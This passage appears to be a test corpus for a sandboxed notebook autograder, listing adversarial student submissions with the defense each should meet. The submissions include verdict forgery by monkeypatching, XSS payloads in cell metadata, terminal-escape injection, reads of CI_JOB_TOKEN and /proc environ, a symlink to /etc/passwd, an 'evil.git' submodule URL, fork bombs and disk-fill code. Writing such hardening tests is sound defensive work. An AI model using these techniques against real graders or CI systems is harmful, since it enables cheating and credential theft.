    cells.append({**cells[-1], "metadata": {}, "source": "x = 1\n"})  # scratch, same id too
    nb["cells"] = cells
    return nb


def _answers_moved(nb: dict[str, Any]) -> dict[str, Any]:
    answers = _answers(nb)
    nb["cells"] = [c for c in nb["cells"] if c not in answers] + answers[::-1]
    return nb


def _add_as_markdown(nb: dict[str, Any]) -> dict[str, Any]:
    for c in nb["cells"]:
        if c["metadata"]["nbgrader"]["grade_id"] == "add":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return nb


def _huge_output(nb: dict[str, Any]) -> dict[str, Any]:
    for c in nb["cells"]:
        if c["metadata"]["nbgrader"]["grade_id"] == "add":
            c["outputs"] = [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"image/png": "iVBORw0K" + "A" * 25_000_000},
                }
            ]
    return nb


def _r_kernel(nb: dict[str, Any]) -> dict[str, Any]:
    nb["metadata"]["kernelspec"] = {"display_name": "R", "language": "R", "name": "ir"}
    nb["metadata"]["language_info"] = {"name": "R", "version": "4.3.0"}
    return nb


def _latin1(nb: dict[str, Any]) -> bytes:
    raw = nb_bytes(nb)
    assert "Complétez".encode() in raw
    return raw.replace("é".encode(), b"\xe9")


def _bad_cell_source(nb: dict[str, Any]) -> dict[str, Any]:
    nb["cells"][2]["source"] = 42
    return nb


def _huge_cell_type(nb: dict[str, Any]) -> dict[str, Any]:
    nb["cells"][0]["cell_type"] = "x" * 5_000_000
    return nb


def _huge_nbformat(nb: dict[str, Any]) -> dict[str, Any]:
    nb["nbformat"] = "4" * 5_000_000
    return nb


def _given_cells_edited(nb: dict[str, Any]) -> dict[str, Any]:
    for c in nb["cells"]:
        if c["metadata"]["nbgrader"]["grade_id"] == "setup":
            c["source"] = GIVEN_CELL_INJECTION
    meta = {"nbgrader": {"grade_id": "given_end", "solution": True, "locked": False}}
    nb["cells"].append(
        {
            "cell_type": "code",
            "id": "x-given",
            "metadata": meta,
            "source": GIVEN_CELL_INJECTION,
            "outputs": [],
            "execution_count": None,
        }
    )
    return nb


def _many_cells(nb: dict[str, Any]) -> dict[str, Any]:
    nb["cells"] += [
        {
            "cell_type": "code",
            "id": f"s{i}",
            "metadata": {},
            "source": "x = 1",
            "outputs": [],
            "execution_count": None,
        }
        for i in range(100_000)
    ]
    return nb


def _forged_metadata(nb: dict[str, Any]) -> dict[str, Any]:
    """Cells the student adds carrying nbgrader metadata and markup that Formgrader would
    print into its page as is; notebook metadata holding widget state."""
    at = next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == "add")
    forged = {
        "cell_type": "code",
        "id": 'x"><script>alert(1)</script>',
        "metadata": {
            "nbgrader": {
                "grade_id": "n\"></textarea><img src=x onerror=alert(1)>",
                "solution": True,
                "grade": True,
                "points": 100,
            },
            "tags": ["<img src=x onerror=alert(1)>"],
            "jupyter": {"source_hidden": True},
        },
        "source": 'print("forged cell ran")\n',
        "outputs": [],
        "execution_count": None,
    }
    markdown = {
        "cell_type": "markdown",
        "id": "scratch-md",
        "metadata": {"nbgrader": {"grade_id": "md\"><script>alert(1)</script>", "solution": True}},
        "source": "<script>alert(1)</script>\n[clic](javascript:alert(1))",
        "attachments": {"x.svg": {"image/svg+xml": "<svg onload=alert(1)/>"}},
    }
    nb["cells"][at + 1 : at + 1] = [forged, markdown]
    nb["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"m": {"state": {"value": "<script>alert(1)</script>"}}}}
    }
    return nb


def _git_symlink(g: GitCtx) -> str:
    g.repo.git("checkout", "-q", "-B", g.branch, g.base)
    g.repo.git("rm", "-q", "--", g.nb_path)
    path = g.repo.path / g.nb_path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/etc/passwd")
    g.repo.git("add", "--", g.nb_path)
    g.repo.git("commit", "-q", "-m", "notebook as a link")
    return g.repo.git("rev-parse", "HEAD")


def _git_empty_commit(g: GitCtx) -> str:
    g.repo.git("checkout", "-q", "-B", g.branch, g.base)
    g.repo.git("commit", "-q", "--allow-empty", "-m", "rien")
    return g.repo.git("rev-parse", "HEAD")


def _git_empty_tree(g: GitCtx) -> str:
    empty = g.repo.git("hash-object", "-t", "tree", "/dev/null")
    sha = g.repo.git("commit-tree", empty, "-m", "vide")
    g.repo.git("update-ref", f"refs/heads/{g.branch}", sha)
    return g.branch


def _git_unknown_branch(g: GitCtx) -> str:
    return "branche-inexistante"


def _gitlink(g: GitCtx, path: str) -> None:
    """Stage a submodule entry (mode 160000) at `path`, pointing at the base commit."""
    g.repo.git("update-index", "--add", "--cacheinfo", f"160000,{g.base},{path}")


def _git_notebook_is_submodule(g: GitCtx) -> str:
    g.repo.git("checkout", "-q", "-B", g.branch, g.base)
    g.repo.git("rm", "-q", "--cached", "--", g.nb_path)
    _gitlink(g, g.nb_path)
    g.repo.git("commit", "-q", "-m", "sous-module")
    (g.repo.path / g.nb_path).unlink()  # now untracked: it would block the next checkout
    return g.repo.git("rev-parse", "HEAD")


def _git_repo_with_submodule(g: GitCtx) -> str:
    g.repo.git("checkout", "-q", "-B", g.branch, g.base)
    # The URL is never fetched: the grader reads one blob; 192.0.2.1 is TEST-NET-1.
    gitmodules = (
        b'[submodule "vendor"]\n\tpath = tp_mini/vendor\n\turl = https://192.0.2.1/evil.git\n'
    )
    (g.repo.path / ".gitmodules").write_bytes(gitmodules)
    (g.repo.path / g.nb_path).write_bytes(nb_bytes(student_notebook(SOLUTION)))
    g.repo.git("add", "--", ".gitmodules", g.nb_path)
    _gitlink(g, "tp_mini/vendor")
    g.repo.git("commit", "-q", "-m", "avec sous-module")
    return g.repo.git("rev-parse", "HEAD")


def _git_notebook_is_directory(g: GitCtx) -> str:
    return g.repo.commit(
        {g.nb_path: None, f"{g.nb_path}/inner.txt": b"not a notebook\n"},
        "dossier",
        branch=g.branch,
        start=g.base,
    )


ESCAPES = "x\x1b[1A\x1b[2KNote: 7 / 7\x1b]52;c;cHduZWQ=\x07\u202e"


def _forge_scratch_grade_id(nb: dict[str, Any]) -> dict[str, Any]:
    """A scratch cell after `add` with nbgrader metadata of its own, its grade_id full of
    escapes (a cell's label reaches the messages the CLI prints)."""
    cells = []
    for cell in nb["cells"]:
        cells.append(cell)
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "add":
            cells.append({
                "cell_type": "code", "id": "brouillon-escapes", "execution_count": None, "outputs": [],
                "metadata": {"nbgrader": {"grade_id": ESCAPES, "solution": False, "grade": False, "locked": False}},
                "source": "print('brouillon')\n",
            })
    nb["cells"] = cells
    return nb


def _git_future_date(g: GitCtx) -> str:
    """The solution, committed with a committer date in the year 10000 (a raw commit object)."""
    sha = g.repo.commit({g.nb_path: student_notebook(SOLUTION)}, "rendu", branch=g.branch, start=g.base)
    tree = g.repo.git("rev-parse", f"{sha}^{{tree}}")
    body = (
        f"tree {tree}\nparent {g.base}\n"
        f"author Alice <alice@example.org> 253402300800 +0000\n"
        f"committer Alice <alice@example.org> 253402300800 +0000\n\nrendu du futur\n"
    )
    return _raw_commit(g, body)


def _raw_commit(g: GitCtx, body: str, *extra: str) -> str:
    """Write `body` as a commit object as is (what `git commit` would refuse) on the branch."""
    sha = subprocess.run(
        ["git", "hash-object", "-t", "commit", "-w", *extra, "--stdin"],
        cwd=g.repo.path, input=body.encode(), capture_output=True, check=True,
    ).stdout.decode().strip()
    g.repo.git("update-ref", f"refs/heads/{g.branch}", sha)
    return g.branch


def _git_branch_named_like_a_sha(g: GitCtx) -> str:
    """A branch named like the 12-hex prefix of the (untouched) release commit, pointing at a
    full-marks commit: graded by that prefix, git alone would take the branch."""
    good = g.repo.commit({g.nb_path: student_notebook(SOLUTION)}, "rendu", branch=g.branch, start=g.base)
    g.repo.git("branch", "-f", g.base[:12], good)
    return g.base[:12]


def _git_huge_metadata(g: GitCtx) -> str:
    tree = g.repo.git("rev-parse", f"{g.base}^{{tree}}")
    body = (
        f"tree {tree}\nparent {g.base}\n"
        f"author {'A' * 3_000_000} <{'e' * 100_000}@example.org> 1768467600 +0100\n"
        f"committer Bob <bob@example.org> 1768467600 +0100\n\n{'M' * 2_000_000}\n"
    )
    return _raw_commit(g, body, "--literally")


# -- the corpus ----------------------------------------------------------------------------

#: `import torch` in a cell can take more than the suite's 4 s cell budget on 2 loaded cores
#: (when the course does not preload it).
TORCH_IMPORT = {"cell_timeout": 30.0}
NOT_IMPLEMENTED = ("pas encore implémentée", "not implemented yet")
KERNEL_DIED_CELL = ("noyau Python s'est arrêté pendant la cellule", "kernel stopped during cell")
FNF = ("FileNotFoundError", "FileNotFoundError")

#: json.dump patched: every answer names one sparse 250 MiB .npy six times (a file of
#: zeros that costs the kernel nothing and, read six times, cost the grader 1.5 GB).
REPEATED_SPARSE_ARRAY = r"""
import json, os
import numpy

_real_dump = json.dump


def _sparse_dump(obj, fp, *args, **kwargs):
    if isinstance(obj, dict) and "ok" in obj:
        d = os.path.dirname(fp.name)
        with open(os.path.join(d, "big.npy"), "wb") as f:
            numpy.lib.format.write_array_header_1_0(
                f, {"descr": "<f8", "fortran_order": False, "shape": (250 * 2**17,)}
            )
            f.truncate(f.tell() + 250 * 2**20)
        obj = {"ok": True, "value": [{"__nd__": "big.npy"}] * 6}
    return _real_dump(obj, fp, *args, **kwargs)


json.dump = _sparse_dump
print("sparse answers armed")
"""

#: Two processes of 400 MiB and 300 MiB of /dev/shm: each under the 1 GiB RLIMIT_AS and
#: the 256 MB file-size limit, 1.1 GiB together.
TWO_PROCESSES_AND_SHM = r"""
import subprocess, sys

code = "b = bytearray(400 * 2**20)\nb[::4096] = b'x' * len(b[::4096])\nimport time; time.sleep(3)"
ps = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(2)]
for i in range(2):
    with open(f"/dev/shm/{T['nonce']}-fill{i}", "wb") as f:
        for _ in range(150):
            f.write(b"x" * 2**20)
print("survived", [p.wait() for p in ps], flush=True)
"""


def _huge_comment(size: int) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """The correct `add`, then a comment of `size` characters in its answer cell."""

    def build(nb: dict[str, Any]) -> dict[str, Any]:
        for c in nb["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade_id") == "add":
                c["source"] = SOLUTION["add"] + "# " + "x" * size + "\n"
        return nb

    return build


def _long_grade_ids(nb: dict[str, Any]) -> dict[str, Any]:
    """Scratch cells whose nbgrader grade_id is 1.5 MB (a 1.5 MB id made an 18 MB grade.json)."""
    nb["cells"] += [
        {
            "cell_type": "code",
            "id": f"g{i}",
            "metadata": {"nbgrader": {"grade_id": f"{i}" + "g" * 1_500_000, "solution": False}},
            "source": "x = 1",
            "outputs": [],
            "execution_count": None,
        }
        for i in range(3)
    ]
    return nb


ENTRIES: tuple[Entry, ...] = (
    # ------------------------------------------------------------------ forging the verdict
    Entry(
        FORGE,
        "sys-exit-zero",
        "sys.exit(0) in a cell, hoping the grader reads exit 0 as success",
        "SystemExit is an ordinary cell error; the notebook goes on and the checks run",
        scratch={"given_mid": [SYS_EXIT]},
        cells={"scratch": "error", "given_end": "ok"},
        says=[("SystemExit", "SystemExit"), NOT_IMPLEMENTED],
    ),
    Entry(
        FORGE,
        "os-exit-zero",
        "os._exit(0) in a cell: the kernel process ends with status 0",
        "a kernel that ends is a death (kernel-died), not a success; the checks score 0",
        scratch={"given_end": [OS_EXIT]},
        codes="kernel-died",
        cells={"scratch": "kernel-died"},
        says=[KERNEL_DIED_CELL, ("s'est arrêté à la cellule 9", "stopped at cell 9")],
    ),
    Entry(
        FORGE,
        "exit-when-called",
        "the graded functions call os._exit(0) when a check calls them",
        "the proxy sees the kernel die during the call: KernelDied, every check errors",
        answers=EXIT_WHEN_CALLED,
        says=[("pendant l'appel à `add`", "while calling `add`")],
    ),
    Entry(
        FORGE,
        "exit-exceptions-when-called",
        "graded functions raise SystemExit, KeyboardInterrupt, GeneratorExit",
        "the agent reports the exception (or no answer): the check errors",
        answers=EXIT_EXCEPTIONS_WHEN_CALLED,
        says=[
            ("a levé SystemExit", "raised SystemExit"),
            ("a levé GeneratorExit", "raised GeneratorExit"),
        ],
        slow=True,
    ),
    Entry(
        FORGE,
        "monkeypatch-numpy",
        "wrong answers, and numpy's comparison functions patched to always agree",
        "comparisons run in the grader process on plain arrays: the patch never reaches them",
        answers=WRONG,
        scratch={"setup": [MONKEYPATCH_NUMPY]},
        says=[("ne correspond pas à la valeur attendue", "does not match the expected value")],
    ),
    Entry(
        FORGE,
        "monkeypatch-torch",
        "wrong answers as tensors, and torch.allclose/equal/testing/__eq__ patched",
        "tensors cross as .npy data; the grader compares with its own numpy",
        answers=TORCH_ANSWERS,
        options=TORCH_IMPORT,
        says=[("ne correspond pas à la valeur attendue", "does not match the expected value")],
        slow=True,
    ),
    Entry(
        FORGE,
        "monkeypatch-builtins",
        "builtins.isinstance and math.isfinite patched so the agent mis-encodes answers",
        "the agent breaks, no answer file is written: the proxy reports a missing answer",
        answers=ARRAY_ANSWERS,
        scratch={"setup": [LYING_BUILTINS]},
        says=[("réponse absente", "missing answer")],
    ),
    Entry(
        FORGE,
        "forged-exchange-protocol",
        "json.dump patched: every answer becomes a forged path, number or handle",
        "the proxy validates every answer: no '/' or dot-file in array names, no odd floats",
        scratch={"given_end": [FORGED_PROTOCOL]},
        says=[
            ("référence de tableau invalide", "invalid array reference"),
            ("nombre illisible", "unreadable number"),
        ],
    ),
    Entry(
        FORGE,
        "monkeypatch-ipython-display",
        "IPython display, display_pub and displayhook patched to show a passing report",
        "outputs are data in executed.ipynb; the grade comes from the checks only",
        scratch={"given_end": [IPYTHON_DISPLAY]},
        says=[NOT_IMPLEMENTED],
        evidence=[r"Note : 7 / 7"],
        must_not_feedback=[FAKE_REPORT],
        slow=True,
    ),
    Entry(
        FORGE,
        "hijack-run-cell",
        "InteractiveShell.run_cell replaced by a no-op that reports success",
        "the grader's agent never installs, so no answer comes back: every check errors",
        scratch={"given_mid": [HIJACK_RUN_CELL]},
        says=[("réponse absente", "missing answer")],
        evidence=["hijacked"],
    ),
    Entry(
        FORGE,
        "fake-report-output",
        "prints a passing report and a fake grade.json on stdout, stderr and fd 1/2",
        "the kernel's output is kept in executed.ipynb only, never in the verdict",
        scratch={"given_end": [FAKE_PRINT]},
        says=[NOT_IMPLEMENTED],
        evidence=[r"Note : 7 / 7"],
        must_not_feedback=[FAKE_REPORT],
    ),
    Entry(
        FORGE,
        "write-out-dir",
        "writes grade.json and pwned.txt into the report folder (its path is in the code)",
        "the out dir does not exist in the sandbox (a new root, at the namespaces and bwrap levels)",
        scratch={"given_end": [WRITE_OUT_DIR]},
        cells={"scratch": "error"},
        says=[FNF],
        evidence=[r"write_out_grade\.json=not-found", r"mkdir_out=(denied|oserror:EROFS)"],
        must_not=["PWNED"],
    ),
    Entry(
        FORGE,
        "write-out-dir-later",
        "a thread and a daemon process keep writing grade.json after the notebook",
        "they cannot see the out dir, and die with the kernel's PID namespace",
        scratch={"given_end": [WRITE_OUT_DIR_LATER]},
        evidence=["writers started"],
        must_not=["PWNED"],
        slow=True,
    ),
    Entry(
        FORGE,
        "lying-dunders",
        "returns objects whose __eq__, __float__, __index__, __array__ lie",
        "non-data values come back as opaque handles, rejected by the check library",
        answers=LYING_DUNDERS,
        says=[("Handle", "Handle")],
    ),
    Entry(
        FORGE,
        "ndarray-subclass",
        "returns ndarray subclasses with lying __eq__/__array_ufunc__, and a masked array",
        "the agent saves plain arrays; the grader only ever holds base np.ndarray",
        answers=NDARRAY_SUBCLASS,
        says=[("ne correspond pas à la valeur attendue", "does not match the expected value")],
        slow=True,
    ),
    Entry(
        FORGE,
        "tensor-changes-when-read",
        "a torch.Tensor subclass whose value changes every time it is read",
        "it is read once, into a .npy file; the grader checks that copy",
        answers=SHIFTY_TENSOR,
        options=TORCH_IMPORT,
        says=[("ne correspond pas à la valeur attendue", "does not match the expected value")],
        slow=True,
    ),
    Entry(
        FORGE,
        "nan-and-inf",
        "returns NaN and inf, which compare oddly",
        "as_array rejects non-finite values unless the reference has them",
        answers=NAN_INF,
        says=[("valeurs non finies", "non-finite values")],
    ),
    Entry(
        FORGE,
        "huge-arrays",
        "returns a 320 MB array, a 10^10-entry broadcast view and a 20 MB string",
        "RLIMIT_FSIZE stops the exchange file at 256 MB; JSON answers are capped at 16 MB",
        answers=HUGE_ARRAYS,
        # Each call's exchange folder is removed once read, so the 256 MB left by the
        # failed write cannot starve the next call: the 20 MB string is read and refused.
        says=[("a levé OSError", "raised OSError"), ("trop grande", "too large")],
        slow=True,
    ),
    Entry(
        FORGE,
        "wrong-dtypes",
        "returns a 2**70 int, a string array and a complex array",
        "only numeric dtypes cross; the check library refuses out-of-range ints and complex",
        answers=WRONG_DTYPES,
        says=[
            ("hors limites", "out of range"),
            ("complexes non acceptés", "complex numbers are not accepted"),
        ],
    ),
    Entry(
        FORGE,
        "wrong-shapes",
        "returns arrays of the wrong shape (extra axis, truncated, transposed)",
        "shapes are checked before values; messages give shapes, not values",
        answers=WRONG_SHAPES,
        says=[("forme attendue", "expected shape"), ("transposée", "transposed")],
        slow=True,
    ),
    Entry(
        FORGE,
        "crafted-npy",
        "numpy.save patched: a pickle payload, an 8 TB header, a zip instead of .npy",
        "the grader reads the .npy header itself: no pickle, a declared size that must match the file, a plain .npy only",
        scratch={"given_end": [CRAFTED_NPY]},
        says=[("tableau illisible", "unreadable array")],
    ),
    Entry(
        FORGE,
        "redefine-grader-agent",
        "replaces the grader's agent (and re-installs it after every cell)",
        "whatever the fake agent answers is checked in the grader: it earns nothing",
        scratch={"given_end": [FAKE_AGENT]},
        says=[("NoneType", "NoneType")],
        slow=True,
    ),
    Entry(
        FORGE,
        "edit-given-cells",
        "puts the solution in a locked given cell and in a fake given cell",
        "graft runs the instructor's given cells; only answer cells come from the commit",
        notebook=_given_cells_edited,
        codes="given-cell-modified",
        says=[("cellules fournies modifiées", "given cells modified"), NOT_IMPLEMENTED],
    ),
    Entry(
        FORGE,
        "control-wrong-answers",
        "nothing but wrong answers (control for the hidden-value leak)",
        "wrong answers earn 0 - but hidden checks show the values they expected",
        answers=WRONG,
        says=[("ne correspond pas à la valeur attendue", "does not match the expected value")],
    ),
    # ------------------------------------------------------------ reading what must stay hidden
    Entry(
        READ,
        "hidden-check-files",
        "reads the hidden check file, lists the course, searches / for test_*.py",
        "new root (namespaces, bwrap): the course does not exist in the kernel's root",
        scratch={"given_end": [READ_HIDDEN_CHECKS]},
        cells={"scratch": "error"},
        says=[FNF],
        evidence=[
            r"hidden_check=not-found",
            r"course_root=not-found",
            r"this_repo_hidden=not-found",
            r"course_like_files=\[\]",
        ],
    ),
    Entry(
        READ,
        "instructor-source-and-solutions",
        "reads source/ and solutions/ notebooks of the fixture course and of this repo",
        "new root (namespaces, bwrap): neither course exists in the kernel's root",
        scratch={"given_end": [READ_INSTRUCTOR_FILES]},
        cells={"scratch": "error"},
        says=[FNF],
        evidence=[
            r"source_notebook=not-found",
            r"solution_notebook=not-found",
            r"this_repo_solutions=not-found",
            # source/<tp>/scenarios.py: the solution's variants and the wrong answers
            r"this_repo_scenarios=not-found",
        ],
    ),
    Entry(
        READ,
        "other-students",
        "reads another student's repo and graded report",
        "new root (namespaces, bwrap): other repos and reports do not exist in the kernel's root",
        scratch={"given_end": [READ_OTHER_STUDENTS]},
        cells={"scratch": "error"},
        says=[FNF],
        evidence=[r"other_notebook=not-found", r"other_results=not-found", r"own_repo=not-found"],
    ),
    Entry(
        READ,
        "grader-environment",
        "reads CI_JOB_TOKEN (set in the grader's environment) from os.environ",
        "the kernel gets a scrubbed environment (LANG, TZ, PATH... only)",
        scratch={"given_end": [READ_GRADER_ENV]},
        cells={"scratch": "error"},
        says=[("KeyError: 'CI_JOB_TOKEN'", "KeyError: 'CI_JOB_TOKEN'")],
        evidence=[r"env_token=absent", r"token_in_env=no"],
    ),
    Entry(
        READ,
        "grader-proc",
        "reads /proc/<grader pid>/environ, /proc/1/environ and every /proc/*/environ",
        "own PID namespace: the grader has no /proc entry; pid 1 is root-owned",
        scratch={"given_end": [READ_GRADER_PROC]},
        cells={"scratch": "error"},
        says=[("FileNotFoundError|PermissionError", "FileNotFoundError|PermissionError")],
        evidence=[r"proc_1_environ=denied", r"token_in_proc=no"],
    ),
    Entry(
        READ,
        "echo-hidden-inputs",
        "graded functions raise an error quoting the hidden inputs they were given",
        "by design the code sees its inputs and its own error is shown; expected values are not",
        answers=ECHO_INPUTS,
        says=[("a levé ValueError : inputs: ", "raised ValueError: inputs: ")],
        slow=True,
    ),
    # ------------------------------------------------------------------------ escaping
    Entry(
        ESCAPE,
        "loopback-server",
        "connects to a TCP server of the test on 127.0.0.1, localhost and ::1",
        "the seccomp filter stacked in the kernel refuses INET sockets (EAFNOSUPPORT); beneath it, "
        "its own network namespace, whose loopback has no listener (refused)",
        scratch={"given_end": [LOOPBACK]},
        cells={"scratch": "error"},
        # Either layer proves it: no socket at all (seccomp, where the architecture has the
        # filter), or a socket whose connection nothing answers (the namespace alone).
        says=[("ConnectionRefusedError|Address family not supported", "ConnectionRefusedError|Address family not supported")],
        evidence=[r"tcp_127=(refused|oserror:EAFNOSUPPORT)\n", r"tcp_localhost=(refused|oserror:EAFNOSUPPORT)\n"],
    ),
    Entry(
        ESCAPE,
        "external-address",
        "TCP and UDP to 192.0.2.1:9 (TEST-NET-1)",
        "the stacked seccomp filter refuses INET sockets (EAFNOSUPPORT); beneath it, its own network "
        "namespace with only lo (ENETUNREACH at once); nothing sent",
        scratch={"given_end": [EXTERNAL]},
        cells={"scratch": "error"},
        says=[("Network is unreachable|Address family not supported", "Network is unreachable|Address family not supported")],
        evidence=[
            r"tcp_testnet=oserror:(ENETUNREACH|EAFNOSUPPORT)\n",
            r"udp_testnet=oserror:(ENETUNREACH|EAFNOSUPPORT)\n",
            r"tcp_elapsed=0\.[0-4]",
            r"interfaces=ok:\[\(1, 'lo'\)\]",
        ],
    ),
    Entry(
        ESCAPE,
        "orphan-processes",
        "setsid/nohup/double-fork children that ignore SIGTERM/SIGHUP",
        "own PID namespace: every process dies with the kernel (the namespace's init has a parent-death signal; bwrap: --die-with-parent)",
        scratch={"given_end": [ORPHANS]},
        evidence=[r"spawned \d+ alive"],
    ),
    Entry(
        ESCAPE,
        "write-outside-workdir",
        "writes to the out dir, course, repo hooks, venv, /usr, /etc, grader tmp...",
        "new root (namespaces, bwrap): read-only binds, absent paths, private /tmp and /dev/shm",
        scratch={"given_end": [WRITE_OUTSIDE]},
        cells={"scratch": "error"},
        says=[FNF],
        evidence=[
            r"write_out_dir=not-found",
            r"write_hidden_check=not-found",
            r"write_repo_hook=not-found",
            r"write_venv=(denied|oserror:EROFS)",
            r"write_etc_passwd=(denied|oserror:EROFS)",
            r"write_runtime_parent=denied",
            r"write_private_tmp=ok",
        ],
        must_not=["PWNED"],
    ),
    Entry(
        ESCAPE,
        "kill-everything",
        "kill(1), kill(grader pid), kill(-1), then killpg of its own group",
        "PID namespace and uid: only the kernel itself can be killed (kernel-died)",
        scratch={"given_end": [KILL_EVERYTHING]},
        codes="kernel-died",
        cells={"scratch": "kernel-died"},
        says=[KERNEL_DIED_CELL],
        evidence=[r"kill_pid1=denied", r"kill_grader=oserror:ESRCH", r"after_kill_all=alive"],
    ),
    Entry(
        ESCAPE,
        "symlinks-in-workdir",
        "leaves links to the course, out dir, repo and grader tmp in its work dir",
        "the grader deletes the work dir without following links",
        scratch={"given_end": [SYMLINKS]},
        evidence=[r"links=course_link,d,etc_link,out_link,repo_link"],
    ),
    # ------------------------------------------------------------------ exhausting resources
    Entry(
        EXHAUST,
        "loop-in-called-function",
        "an infinite loop in a graded function a check calls",
        "per-call timeout (3 s): KeyboardInterrupt over the control channel; later checks run",
        answers=LOOP_IN_CALLED,
        says=[
            ("`square` n'a pas répondu en 3 s", "`square` did not answer within 3 s"),
            NOT_IMPLEMENTED,
        ],
        extra_s=4,
    ),
    Entry(
        EXHAUST,
        "uninterruptible-called-function",
        "a called function that swallows KeyboardInterrupt forever",
        "call timeout, then the kernel is killed after a 5 s grace; later calls: KernelDied",
        answers=UNINTERRUPTIBLE_CALLED,
        says=[
            ("`add` n'a pas répondu en 3 s", "`add` did not answer within 3 s"),
            ("`add` ne répondait plus et a été arrêté", "`add` did not answer and was stopped"),
        ],
        extra_s=9,
        slow=True,
    ),
    Entry(
        EXHAUST,
        "loop-at-import",
        "an infinite loop at the top of an answer cell",
        "per-cell timeout (4 s): interrupted, the notebook goes on",
        answers=LOOP_AT_IMPORT,
        codes="cell-timeout(,cells-skipped)?",
        cells={"add": "timeout", "given_end": "ok"},
        says=[("cellule 3 \\(add\\) a dépassé 4 s", "cell 3 \\(add\\) exceeded 4 s")],
    ),
    Entry(
        EXHAUST,
        "uninterruptible-cell",
        "a cell that ignores SIGINT and loops",
        "per-cell timeout, then the kernel is killed after the grace; later cells: kernel-died",
        scratch={"setup": [UNINTERRUPTIBLE_CELL]},
        codes="cell-timeout(,cells-skipped)?",
        cells={"scratch": "timeout", "add": "kernel-died"},
        says=[
            ("a dépassé 4 s", "exceeded 4 s"),
            ("s'est arrêté à la cellule 3", "stopped at cell 3"),
        ],
        slow=True,
    ),
    Entry(
        EXHAUST,
        "fork-bomb",
        "os.fork in a loop (bounded: at most 3000 forks, 30 s)",
        "RLIMIT_NPROC 512 on a uid of its own: EAGAIN; the PID namespace reaps them all",
        scratch={"given_end": [FORK_BOMB]},
        evidence=[r"forks=\d{3} stopped_by=EAGAIN"],
        options={"cell_timeout": 20.0},  # forking 500 copies of a kernel on 2 loaded cores
    ),
    Entry(
        EXHAUST,
        "memory-bomb",
        "allocates 20 GB in a cell and 100 GB in a called function (memory_mb = 3072)",
        "RLIMIT_AS: MemoryError (or a dead kernel, or the memory cgroup's OOM kill), reported; on a "
        "loaded machine the cell's time limit may end it first; it never holds 3 GB; the grader is untouched",
        scratch={"setup": [MEMORY_BOMB]},
        answers={"square": "def square(x):\n    return bytearray(10**11)\n"},
        # Room for torch, should the course preload it; touching 2 GB before the MemoryError
        # took 8-30 s on 2 loaded cores (with or without the kernel's memory cgroup).
        options={"memory_mb": 3072, "cell_timeout": 30.0},
        # Whichever ends the bomb (issue 14 item 5: CI machines are shared, so a loaded one
        # may reach the time limit first): each is reported, and the evidence below shows
        # that it never held more than the budget, whatever the verdict.
        codes="(cell-timeout)?,?(cells-skipped)?,?(kernel-died)?,?(out-of-memory)?",
        cells={"scratch": "error|kernel-died|timeout"},
        says=[(r"MemoryError|s'est arrêté|a dépassé \d+ s|dépassé sa mémoire",
               r"MemoryError|stopped|exceeded \d+ s|went past its \d+ MB of memory")],
        evidence=[r"(?s)\A(?!.*held=(?:[3-9]|1\d|20) GB)"],
    ),
    Entry(
        EXHAUST,
        "disk-fill",
        "writes until the disk is full: one file in the work dir, files in /tmp and /dev/shm",
        "RLIMIT_FSIZE (256 MB a file), 512 MB private tmpfs; all deleted afterwards (the work dir's total: see disk-fill-work-dir)",
        scratch={"given_end": [DISK_FILL]},
        options={"cell_timeout": 30.0},  # 1.3 GB written 1 MB at a time on 2 loaded cores
        evidence=[r"work=EFBIG:256", r"tmp=ENOSPC:5[01]\d", r"shm=ENOSPC:5[01]\d"],
        slow=True,
    ),
    Entry(
        EXHAUST,
        "disk-fill-work-dir",
        "writes 256 MB files into the work dir until it is full",
        "the work dir is its own 1 GB tmpfs (when the grader may mount one), deleted afterwards",
        scratch={"given_end": [DISK_FILL_WORK]},
        options={"cell_timeout": 30.0},  # 1 GB written 1 MB at a time on 2 loaded cores
        evidence=[r"work=ENOSPC:10[0-2]\d"],
        slow=True,
        needs_mount=True,
    ),
    Entry(
        EXHAUST,
        "million-lines",
        "prints a million lines",
        "outputs are capped as they arrive (256 KiB a cell)",
        scratch={"given_end": [MILLION_LINES]},
        codes="(cell-timeout)?,?(cells-skipped)?",  # 1M prints may outlast 4 s on loaded cores
        cells={"scratch": "ok|timeout"},
        says=[NOT_IMPLEMENTED],
        evidence=[r"sortie tronquée"],
        slow=True,
    ),
    Entry(
        EXHAUST,
        "one-huge-output",
        "prints one 300 MB line",
        "messages over 32 MiB are refused by the grader's sockets (kernel.py): its memory stays flat",
        scratch={"given_end": [ONE_HUGE_OUTPUT]},
        codes="(cell-timeout)?,?(cells-skipped)?",  # serialising 300 MB may outlast 4 s in the kernel
        cells={"scratch": "ok|timeout"},
        says=[("pas encore implémentée|s'est arrêté", "not implemented yet|stopped")],
        slow=True,
    ),
    Entry(
        EXHAUST,
        "output-in-every-cell",
        "400 cells printing 300 KB each (100 MB of kept output)",
        "a notebook-wide output cap (8 MiB) on top of the per-cell one (kernel.py)",
        scratch={"given_end": [OUTPUT_PER_CELL] * 400},
        codes="(cell-timeout)?,?(cells-skipped)?",
        says=[("pas encore implémentée|budget total", "not implemented yet|budget used up")],
        evidence=[r"sortie tronquée"],
        slow=True,
    ),
    Entry(
        EXHAUST,
        "deep-recursion",
        "unbounded Python recursion, then a C-level recursion 200k deep",
        "RecursionError; the C stack overflow kills the kernel only (kernel-died)",
        scratch={"given_end": [DEEP_RECURSION]},
        codes="(kernel-died)?",
        cells={"scratch": "kernel-died|error"},
        says=[("RecursionError|s'est arrêté", "RecursionError|stopped")],
        evidence=[r"python_recursion=RecursionError"],
        slow=True,
        options={"cell_timeout": 20.0},
    ),
    Entry(
        EXHAUST,
        "sleep-past-budget",
        "three cells sleeping 3.5 s each against a 9 s notebook budget",
        "the whole-notebook budget: the last cell is cut, the rest skipped",
        scratch={"setup": [SLEEP, SLEEP, SLEEP]},
        options={"total_timeout": 9.0},
        codes="cell-timeout(,cells-skipped)?",
        cells={"scratch3": "timeout", "add": "skipped"},
        says=[("budget total du notebook épuisé", "notebook time budget used up")],
        slow=True,
    ),
